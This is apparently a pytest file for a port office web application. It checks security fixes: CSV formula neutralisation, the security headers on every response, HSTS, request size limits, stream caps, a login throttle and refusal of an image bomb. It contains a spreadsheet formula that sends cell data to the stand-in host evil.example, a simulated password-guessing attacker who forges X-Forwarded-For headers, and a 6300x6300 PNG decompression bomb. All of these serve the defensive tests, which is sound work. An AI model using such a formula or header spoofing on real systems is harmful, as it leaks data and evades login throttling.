"""Issue 36, the office web application's findings, each against the real app served by uvicorn
on loopback (``LiveOffice``: a SQLite ledger with the demo registry) over real HTTP: CSV exports
neutralise formulas (#6), a what-if rulebook with a 4,301-digit integer is bad input and every
response, a 500 too, carries the security headers (#11), HSTS over TLS only (#12), a 405 names
every method of its address, a chunked form field over the limit is 413, one session holds a
bounded number of live streams (#15)."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import ssl
import threading
from pathlib import Path

import httpx
import pytest
import uvicorn
from sqlalchemy import select, text, update

from app.demo.mosquitto import free_port
from app.whatif import web_gate_what_if
from central.config import PublishSettings
from central.ledger.tables import statement_lines, statements
from central.web.routes.live import MAX_STREAMS
from portgate.csvout import safe_cell
from testkit.tls import make_tls_files
from testkit.wait import wait_until
from tests.central.web.live import PASSWORD, LiveOffice
from tests.central.web.paydata import seed_pay

DAY = "2026-12-02"
# the office's clock: the evening before DAY (18:00 in the port), when none of its periods has
# ended (the machine's date is later: a past escala is refused)
EVE = dt.datetime(2026, 12, 1, 21, 0, tzinfo=dt.UTC)
FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"ver")'
HEADERS = ("content-security-policy", "x-content-type-options", "x-frame-options", "referrer-policy")


@pytest.fixture(scope="module")
def office(tmp_path_factory):
    live = LiveOffice(tmp_path_factory.mktemp("office36")).start()
    live.app.state.web.gate_what_if = web_gate_what_if(PublishSettings(source="registry"))
    yield live
    live.stop()


def csrf_of(html: str) -> str:
    m = re.search(r'name="csrf_token" value="([^"]+)"', html)
    assert m, html[:500]
    return m.group(1)


def logged_in(base: str, **kwargs) -> tuple[httpx.Client, str]:
    c = httpx.Client(base_url=base, timeout=30, **kwargs)
    token = csrf_of(c.get("/login").text)
    r = c.post("/login", data={"login": "escritorio", "password": PASSWORD, "csrf_token": token, "next": "/"})
    assert r.status_code == 303, r.text[:500]
    return c, csrf_of(c.get("/whatif").text)


# -- 6: CSV exports ----------------------------------------------------------------------------------

def test_safe_cell_neutralises_formula_starts_but_keeps_plain_numbers():
    assert [safe_cell(v) for v in ("=1+1", "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx", "ok", "a=b")] == \
        ["'=1+1", "'+1+1", "'-2+3", "'@SUM(A1)", "'\tx", "'\rx", "ok", "a=b"]
    assert [safe_cell(v) for v in ("-12.50", "+3", "-7", "", None, -5)] == ["-12.50", "+3", "-7", "", None, -5]
    assert safe_cell("-1e3") == "'-1e3" and safe_cell("- 1") == "'- 1"


def test_the_escala_export_neutralises_a_ship_name_typed_as_a_formula(office):
    c, token = logged_in(office.url)
    form = {"csrf_token": token, "date": DAY, "period": "07-13", "operator": "-2+3", "ship": "9300001",
            "ship_name": FORMULA, "voyage": "long_haul", "berth": "berthed", "gate_id": "g-a",
            "post": "portalo", "function": "vigia", "workers": "1"}
    web = office.app.state.web
    machine = web.now
    web.now = lambda: EVE  # the office's clock before DAY's periods end (the fixture's is the machine's)
    try:
        r = c.post("/escala/dispatch", data=form)
    finally:
        web.now = machine
    assert r.status_code == 200, r.text[-2000:]
    r = c.get("/escala/export/ship", params={"date": DAY, "name": "9300001"})
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(r.text)))
    assert rows and rows[0]["ship_name"] == "'" + FORMULA
    assert rows[0]["ship"] == "9300001" and rows[0]["date"] == DAY  # ordinary cells unchanged
    assert not [cell for row in rows for cell in row.values() if cell and cell[0] in "=+-@\t\r"]


def test_the_payroll_export_neutralises_text_and_keeps_negative_amounts_numbers(office):
    seed_pay(office.engine)
    with office.engine.begin() as conn:
        sid = conn.execute(select(statements.c.statement_id).where(statements.c.registration == "V017")).scalar_one()
        conn.execute(update(statement_lines).where(statement_lines.c.statement_id == sid,
                                                   statement_lines.c.position == 0)
                     .values(description=FORMULA, amount_cents=-500))
    c, _ = logged_in(office.url)
    r = c.get("/pay/export.csv", params={"from": "2026-03-01", "to": "2026-03-31"})
    assert r.status_code == 200
    rows = list(csv.reader(io.StringIO(r.text)))
    line = next(row for row in rows if row[0] == "V017" and row[10].endswith(FORMULA))
    assert line[10] == "'" + FORMULA and line[11] == "-5.00"
    assert not [cell for row in rows for cell in row if cell[:1] in ("=", "+", "@", "\t", "\r")]


# -- 11: bad input is 4xx; the security headers on every response -------------------------------------

def test_a_what_if_rulebook_with_a_4301_digit_integer_is_bad_input(office):
    c, token = logged_in(office.url)
    r = c.post("/whatif/gate", data={"csrf_token": token, "day": "2026-03-15",
                                     "rulebook": "[[version]]\nx = " + "1" * 4301 + "\n"})
    assert r.status_code == 400, r.text[-1500:]
    assert "um número tem mais de 4300 dígitos" in r.text
    assert all(h in r.headers for h in HEADERS)


def test_a_500_carries_the_security_headers(tmp_path):
    """A damaged ledger (the sessions table gone) makes the login fail unexpectedly: 500, with
    the same security headers as every other answer."""
    broken = LiveOffice(tmp_path).start()
    try:
        c = httpx.Client(base_url=broken.url, timeout=30)
        token = csrf_of(c.get("/login").text)
        with broken.engine.begin() as conn:
            conn.execute(text("DROP TABLE office_sessions"))
        r = c.post("/login", data={"login": "escritorio", "password": PASSWORD, "csrf_token": token, "next": "/"})
        assert r.status_code == 500
        assert all(h in r.headers for h in HEADERS), dict(r.headers)
        assert r.headers["x-frame-options"] == "DENY"
    finally:
        broken.stop()


# -- 12: HSTS over TLS only ------------------------------------------------------------------------

def test_hsts_is_sent_over_tls_and_not_over_plain_http(office, tmp_path):
    assert "strict-transport-security" not in httpx.get(office.url + "/login").headers
    tls = make_tls_files(tmp_path / "tls")
    port = free_port()
    server = uvicorn.Server(uvicorn.Config(office.app, host="127.0.0.1", port=port, log_level="warning",
                                           ssl_certfile=str(tls.cert), ssl_keyfile=str(tls.key)))
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    try:
        wait_until(lambda: server.started, timeout=60, what="uvicorn with TLS")
        ctx = ssl.create_default_context(cafile=str(tls.ca))
        for path in ("/login", "/no-such-page"):
            r = httpx.get(f"https://127.0.0.1:{port}{path}", verify=ctx)
            assert r.headers["strict-transport-security"] == "max-age=31536000", path
    finally:
        server.should_exit = True
        thread.join(10)


# -- 15: Allow, 413 for a chunked field, live streams per session --------------------------------------

def test_a_405_names_every_method_of_the_address(office):
    c = httpx.Client(base_url=office.url, timeout=30)
    r = c.request("DELETE", "/login")
    assert r.status_code == 405 and r.headers["allow"] == "GET, HEAD, POST"
    r = c.request("PUT", "/ships")
    assert r.status_code == 405 and r.headers["allow"] == "GET, HEAD, POST"


def test_a_chunked_form_over_the_limit_answers_413(office):
    c, token = logged_in(office.url)

    def body():
        yield b"csrf_token=" + token.encode() + b"&ship_name="
        for _ in range(7):
            yield b"x" * (1024 * 1024)

    r = c.post("/ships", content=body(), headers={"content-type": "application/x-www-form-urlencoded"})
    assert r.status_code == 413 and "grande demais" in r.text


def test_one_session_holds_a_bounded_number_of_live_streams(office):
    c, _ = logged_in(office.url)
    streams = []
    try:
        for _ in range(MAX_STREAMS):
            cm = c.stream("GET", "/live/stream", headers={"Accept": "text/event-stream"})
            r = cm.__enter__()
            assert r.status_code == 200
            streams.append(cm)
        r = c.get("/live/stream", headers={"Accept": "text/event-stream"})
        assert r.status_code == 429 and r.headers["retry-after"] and "Abas demais" in r.text
        other, _ = logged_in(office.url)  # another session is not affected
        with other.stream("GET", "/live/stream", headers={"Accept": "text/event-stream"}) as s:
            assert s.status_code == 200
    finally:
        for cm in streams:
            cm.__exit__(None, None, None)
    # closed streams give their places back
    wait_until(lambda: not office.app.state.web.streams, timeout=60, what="the places back")
    with c.stream("GET", "/live/stream", headers={"Accept": "text/event-stream"}) as s:
        assert s.status_code == 200



# -- 10: the login throttle, per account and address; forwarded headers from configured proxies only --

def _attempt(c: httpx.Client, login: str, password: str, **headers) -> httpx.Response:
    token = csrf_of(c.get("/login").text)
    return c.post("/login", data={"login": login, "password": password, "csrf_token": token, "next": "/"},
                  headers=headers)


def _from(address: str, base: str) -> httpx.Client:
    return httpx.Client(base_url=base, timeout=30, transport=httpx.HTTPTransport(local_address=address))


def test_someone_else_s_wrong_passwords_never_lock_the_owner_out(tmp_path):
    """An attacker at 127.0.0.2 guesses the office login's password, pretending with
    ``X-Forwarded-For`` to be elsewhere; his attempts are slowed, the owner at 127.0.0.1 logs in at
    once. Only the configured proxy (127.0.0.3) is believed about the client's address."""
    from central.config import WebSettings
    from central.web.cli import uvicorn_config
    from central.web.schema import login_failures
    from central.web.users import FREE_PAIR
    from tests.central.web.conftest import Clock

    clock = Clock()
    live = LiveOffice(tmp_path, now=clock)
    port = free_port()
    server = uvicorn.Server(uvicorn_config(live.app, WebSettings(trusted_proxies=("127.0.0.3",)),
                                           host="127.0.0.1", port=port, log_level="warning"))
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    base = f"http://127.0.0.1:{port}"
    try:
        wait_until(lambda: server.started, timeout=60, what="uvicorn")
        attacker = _from("127.0.0.2", base)
        answers = [_attempt(attacker, "escritorio", f"guess {i}", **{"X-Forwarded-For": f"198.51.100.{i}"}).status_code
                   for i in range(25)]  # more than the 20 that locked the login for everyone before
        assert answers[:FREE_PAIR - 1] == [401] * (FREE_PAIR - 1) and set(answers[FREE_PAIR - 1:]) == {429}
        r = _attempt(attacker, "escritorio", PASSWORD, **{"X-Forwarded-For": "127.0.0.1"})
        assert r.status_code == 429 and int(r.headers["retry-after"]) >= 1  # slowed, even with the password
        with live.engine.connect() as conn:
            addresses = set(conn.execute(select(login_failures.c.address)).scalars())
        assert addresses == {"127.0.0.2"}  # the header of an unlisted peer is not believed
        owner = _from("127.0.0.1", base)
        assert _attempt(owner, "escritorio", PASSWORD).status_code == 303  # never locked out by someone else
        # the configured proxy is believed: the failure is counted for the address it forwards
        proxy = _from("127.0.0.3", base)
        assert _attempt(proxy, "escritorio", "wrong!", **{"X-Forwarded-For": "203.0.113.9"}).status_code == 401
        with live.engine.connect() as conn:
            assert "203.0.113.9" in set(conn.execute(select(login_failures.c.address)).scalars())
    finally:
        server.should_exit = True
        thread.join(10)
        live.engine.dispose()


# -- 7: a small picture of many pixels -------------------------------------------------------------

def _rss_peak_since_reset() -> int:
    """This process's peak resident memory (bytes) since ``_reset_rss_peak``: the server runs in it."""
    for line in Path("/proc/self/status").read_text().splitlines():
        if line.startswith("VmHWM:"):
            return int(line.split()[1]) * 1024
    raise AssertionError("no VmHWM")


def _rss_now() -> int:
    for line in Path("/proc/self/status").read_text().splitlines():
        if line.startswith("VmRSS:"):
            return int(line.split()[1]) * 1024
    raise AssertionError("no VmRSS")


def _reset_rss_peak() -> None:
    Path("/proc/self/clear_refs").write_text("5")  # Linux: the peak (VmHWM) starts again from now


def test_a_6300x6300_png_of_a_few_kb_is_refused_without_the_server_s_memory_jumping(office):
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", (6300, 6300), (200, 180, 160)).save(out, "PNG", optimize=True)
    bomb = out.getvalue()
    assert len(bomb) < 200_000
    out = io.BytesIO()
    Image.new("RGB", (6000, 4000), (90, 120, 150)).save(out, "JPEG", quality=80)  # a 24 MP phone picture
    phone = out.getvalue()
    del out
    c, token = logged_in(office.url)
    import gc

    gc.collect()
    _reset_rss_peak()
    before = _rss_now()
    r = c.post("/workers/V001/photo", data={"csrf_token": token}, files={"photo": ("big.png", bomb, "image/png")})
    assert r.status_code == 400
    assert "a foto tem 6300x6300 pixels: grande demais para uma foto de rosto" in r.text
    r = c.post("/workers/V002/photo", data={"csrf_token": token}, files={"photo": ("p.jpg", phone, "image/jpeg")})
    assert r.status_code == 303, r.text[-1500:]  # a large JPEG is reduced while decoded, and accepted
    assert (office.photos / "V002.jpg").exists()
    grown = _rss_peak_since_reset() - before
    assert grown < 80 * 1024 * 1024, f"the server's memory rose by {grown // 2**20} MB"
